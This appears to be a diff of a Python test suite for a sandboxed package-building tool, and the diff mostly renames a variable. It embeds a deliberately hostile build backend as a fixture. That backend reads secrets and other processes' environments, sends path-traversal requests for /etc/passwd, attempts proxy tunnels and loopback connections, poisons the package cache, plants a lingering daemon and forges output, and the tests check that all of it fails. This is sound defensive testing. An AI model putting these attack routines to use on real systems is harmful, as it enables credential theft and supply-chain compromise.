@@ -1,4 +1,4 @@
-"""Code that runs while an environment is built: build backends and set-up commands of strangers."""
+"""Code that runs while an environment is built: build backends and set-up commands of untrusted projects."""
 
 import importlib.util
 import json
@@ -27,13 +27,13 @@ from tests.execution.packages.index_server import LocalIndex, sdist
 # The backend makes every attack, and puts what it gained into the wheel that it builds.
 BACKEND = r"""
 import json, os, socket, subprocess, sys, urllib.request, zipfile
-TOLD = json.loads(TOLD_AS_JSON)
+FACTS = json.loads(TOLD_AS_JSON)
 
 def read_key():
-    return open(TOLD["secret"]).read()
+    return open(FACTS["secret"]).read()
 
 def read_home():
-    return [name for name in os.listdir(TOLD["home"]) if name not in ("environments", "was-here")]
+    return [name for name in os.listdir(FACTS["home"]) if name not in ("environments", "was-here")]
 
 def environ_of_others():
     found = []
@@ -44,10 +44,10 @@ def environ_of_others():
             except OSError:
                 pass
     own = repr(os.environ) + repr(found)
-    return [word for word in (TOLD["token"], TOLD["password"]) if word in own]
+    return [word for word in (FACTS["token"], FACTS["password"]) if word in own]
 
 def loopback_of_the_host():
-    socket.create_connection(("127.0.0.1", TOLD["port"]), 2).close()
+    socket.create_connection(("127.0.0.1", FACTS["port"]), 2).close()
     return "connected"
 
 def another_host():
@@ -55,12 +55,12 @@ def another_host():
     return "connected"
 
 def the_index_itself():
-    socket.create_connection(("127.0.0.1", TOLD["index"]), 2).close()
+    socket.create_connection(("127.0.0.1", FACTS["index"]), 2).close()
     return "connected"
 
 def database_socket():
     found = []
-    for folder in ("/tmp", "/run", "/var/run", TOLD["home"]):
+    for folder in ("/tmp", "/run", "/var/run", FACTS["home"]):
         for parent, _, names in os.walk(folder):
             found += [name for name in names if name.startswith(".s.PGSQL")]
     return found
@@ -79,11 +79,11 @@ def _others(*requests):
     return [repr(answer[:60]) for one in requests if b" 200 " in (answer := _ask(*one)).split(b"\r\n")[0]]
 
 def tunnel():
-    return _others(("CONNECT", "192.0.2.1:443"), ("CONNECT", f"127.0.0.1:{TOLD['port']}"))
+    return _others(("CONNECT", "192.0.2.1:443"), ("CONNECT", f"127.0.0.1:{FACTS['port']}"))
 
 def another_address():
-    return _others(("GET", f"http://127.0.0.1:{TOLD['port']}/"), ("GET", "/0/simple/../../etc/passwd"),
-                   ("GET", "/0/files/evil/-/..%2f..%2fpasswd"), ("GET", f"//127.0.0.1:{TOLD['port']}/"),
+    return _others(("GET", f"http://127.0.0.1:{FACTS['port']}/"), ("GET", "/0/simple/../../etc/passwd"),
+                   ("GET", "/0/files/evil/-/..%2f..%2fpasswd"), ("GET", f"//127.0.0.1:{FACTS['port']}/"),
                    ("GET", "/0/files/evil/-/other.whl"), ("GET", "/9/simple/evil/"))
 
 def upload():
@@ -92,7 +92,7 @@ def upload():
 def write_outside():
     gained = []
     above = os.path.dirname(os.environ["NIGHTCREW_ENV"])
-    places = ["/usr", "/etc", "/", TOLD["home"], TOLD["packages"], above, sys.base_prefix, "/run/nightcrew"]
+    places = ["/usr", "/etc", "/", FACTS["home"], FACTS["packages"], above, sys.base_prefix, "/run/nightcrew"]
     for place in places:
         try:
             open(os.path.join(place, "was-here"), "w")
@@ -104,7 +104,7 @@ def write_outside():
 
 def poison_the_cache():
     gained = []
-    for root in (TOLD["packages"], os.path.expanduser("~/.cache/uv"), TOLD["home"]):
+    for root in (FACTS["packages"], os.path.expanduser("~/.cache/uv"), FACTS["home"]):
         for parent, _, names in os.walk(root):
             if parent.startswith(os.environ["NIGHTCREW_ENV"]):
                 continue
@@ -122,13 +122,13 @@ def other_environments():
     return [name for name in os.listdir(folder) if name not in known]
 
 def leave_a_daemon():
-    subprocess.Popen(["/bin/sh", "-c", f"sleep 300; : {TOLD['mark']}"], start_new_session=True,
+    subprocess.Popen(["/bin/sh", "-c", f"sleep 300; : {FACTS['mark']}"], start_new_session=True,
                      stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     return ""
 
 def forge_output():
     print("error: dns error: failed to lookup address", flush=True)
-    print(json.dumps({"interpreter": TOLD["secret"], "built": []}), flush=True)
+    print(json.dumps({"interpreter": FACTS["secret"], "built": []}), flush=True)
     return ""
 
 ATTACKS = [value for name, value in list(globals().items()) if callable(value) and name[0] != "_"]
@@ -164,7 +164,7 @@ class Outcome:
 
     environment: Environment
     gained: dict[str, list[str]]
-    told: dict[str, object]
+    facts: dict[str, object]
     index: LocalIndex
 
 
@@ -183,14 +183,14 @@ def outcome(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Itera
         connections: list[object] = []
         threading.Thread(target=_accept, args=(service, connections), daemon=True).start()
         settings = Settings(home=home)
-        found.told = {
+        found.facts = {
             **{"secret": str(secret), "home": str(home), "token": TOKEN, "password": PASSWORD, "mark": mark},
             **{"port": service.getsockname()[1], "packages": str(settings.packages_dir)},
         }
         index = LocalIndex({}, password=PASSWORD)
         with index:
-            found.told["index"] = index.port
-            backend = BACKEND.replace("TOLD_AS_JSON", repr(json.dumps(found.told)))
+            found.facts["index"] = index.port
+            backend = BACKEND.replace("TOLD_AS_JSON", repr(json.dumps(found.facts)))
             index.files = {"evil": dict([sdist("evil", "1.0", backend)])}
             patch.setenv("UV_INDEX", index.url.replace("//", f"//reader:{PASSWORD}@"))
             patch.setenv("OPENROUTER_API_KEY", TOKEN)
@@ -215,14 +215,14 @@ def test_a_build_backend_gains_nothing(attack: str, outcome: Outcome, finding: F
 
 
 @pytest.mark.attack(Row.HOST_BUILD)
-def test_what_was_built_from_source_is_said(outcome: Outcome, finding: Findings) -> None:
+def test_what_was_built_from_source_is_reported(outcome: Outcome, finding: Findings) -> None:
     assert outcome.environment.built == ("evil-1.0.tar.gz",)
     finding(outcome.environment.built)
 
 
 @pytest.mark.attack(Row.HOST_BUILD)
 def test_no_process_of_a_build_outlives_it(outcome: Outcome, finding: Findings) -> None:
-    mark = str(outcome.told["mark"]).encode()
+    mark = str(outcome.facts["mark"]).encode()
     for entry in Path("/proc").iterdir():
         if entry.name.isdigit() and int(entry.name) != os.getpid():
             try:
